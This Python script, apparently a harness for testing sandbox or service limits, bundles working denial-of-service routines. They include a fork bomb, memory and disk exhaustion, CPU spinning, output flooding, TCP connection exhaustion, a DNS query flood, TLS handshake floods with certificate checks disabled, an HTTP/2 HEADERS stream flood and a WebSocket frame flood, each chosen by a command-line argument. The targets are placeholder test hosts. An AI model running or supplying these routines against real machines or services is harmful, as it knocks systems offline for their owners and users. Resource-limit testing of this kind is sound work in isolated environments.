import os, socket, ssl, struct, sys, threading, time
what, own, tcp, tls = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
trust = ssl._create_unverified_context()

def printer():
    line = b"x" * 65535 + b"\n"
    while True:
        os.write(1, line)

def forks():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)

def memory():
    kept = []
    while True:
        kept.append(bytearray(os.urandom(4096)) * 1024)

def disk():
    block = os.urandom(1 << 20)
    while True:
        try:
            with open("/workspace/fill", "wb", 0) as f:
                while True:
                    f.write(block)
        except OSError:
            pass

def spin():
    for _ in range(3):
        if os.fork() == 0:
            break
    while True:
        pass

def each(n, f):
    def loop():
        while True:
            try:
                f()
            except OSError:
                time.sleep(0.05)
    for _ in range(n):
        threading.Thread(target=loop, daemon=True).start()
    while True:
        time.sleep(60)

def connections():
    kept = []
    while True:
        try:
            kept.append(socket.create_connection((own, tcp), timeout=10))
        except OSError:
            time.sleep(0.2)
            if len(kept) > 400:
                for c in kept:
                    c.close()
                kept = []

def names():
    query = lambda n: struct.pack(">6H", n & 0xffff, 0x100, 1, 0, 0, 0) + b"\x05plain\x04test\x00" + struct.pack(">2H", 1 + n % 2 * 27, 1)
    def ask(n=[0]):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        try:
            for _ in range(64):
                n[0] += 1
                s.sendto(query(n[0]), ("198.18.0.1", 53))
            s.recv(4096)
        finally:
            s.close()
    each(16, ask)

def secure(alpn):
    context = ssl._create_unverified_context()
    context.set_alpn_protocols([alpn])
    return context.wrap_socket(socket.create_connection(("looked.test", tls), timeout=20), server_hostname="looked.test")

def handshakes():
    each(16, lambda: secure("http/1.1").close())

def streams():
    frame = lambda kind, flags, stream, body: struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body
    text = lambda s: bytes([len(s)]) + s.encode()
    head = b"\x82\x87" + b"\x04" + text("/hang") + b"\x01" + text("looked.test:%d" % tls) + b"".join(b"\x00" + text("x-%d" % i) + text("v" * 100) for i in range(10))
    def flood():
        s = secure("h2")
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
        threading.Thread(target=lambda: drain(s), daemon=True).start()
        for n in range(1, 2000, 2):
            s.sendall(frame(1, 5, n, head))
            time.sleep(0.002)
        time.sleep(5)
        s.close()
    each(8, flood)

def drain(s):
    try:
        while s.recv(65536):
            pass
    except OSError:
        pass

def websockets():
    body = os.urandom(65000)
    def flood():
        s = secure("http/1.1")
        s.sendall(("GET /ws HTTP/1.1\r\nHost: looked.test:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n" % tls).encode())
        if b" 101 " not in s.recv(4096):
            s.close()
            time.sleep(0.2)
            return
        frame = b"\x82\xfe" + struct.pack(">H", len(body)) + b"\x00\x00\x00\x00" + body
        while True:
            s.sendall(frame)
    each(8, flood)

globals()[what]()
